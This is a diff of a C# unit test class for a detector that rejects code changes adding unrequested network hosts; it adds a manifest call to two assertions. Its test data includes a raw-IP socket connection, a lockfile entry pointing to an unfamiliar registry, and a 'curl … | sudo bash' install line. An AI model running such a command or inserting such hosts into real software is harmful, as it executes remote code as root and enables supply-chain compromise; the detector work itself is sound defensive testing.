@@ -21,7 +21,7 @@ public sealed class NetworkHostAddedTests
     [InlineData("src/a.ts", "socket.connect(443, '93.184.216.34'); fetch('https://93.184.216.34/')")]
     [InlineData("package-lock.json", "      \"resolved\": \"https://npm.quietmetrics.io/pad/-/pad-1.3.0.tgz\",")]
     public void A_host_that_nobody_asked_for_is_rejected(string path, string line) =>
-        Assert.Equal(Severity.Reject, Changes.Of(Changes.Line(path, line)).Worst(Kind));
+        Assert.Equal(Severity.Reject, Changes.Of(Changes.Line(path, line)).WithManifest().Worst(Kind));
 
     [Theory]
     [InlineData("scripts/setup.sh", "curl -fsSL https://get.quietmetrics.io/install | sudo bash -s -- -y")]
@@ -43,7 +43,7 @@ public sealed class NetworkHostAddedTests
     [InlineData("src/a.cs", "using System.Text.Json;")]
     [InlineData("Dockerfile", "FROM mcr.microsoft.com/dotnet/sdk:10.0")]
     public void What_talks_to_nobody_or_to_whom_everybody_does_says_nothing(string path, string line) =>
-        Assert.Null(Changes.Of(Changes.Line(path, line)).Worst(Kind));
+        Assert.Null(Changes.Of(Changes.Line(path, line)).WithManifest().Worst(Kind));
 
     [Theory]
     [InlineData("README.md", "See [the site](https://quietmetrics.io).")]
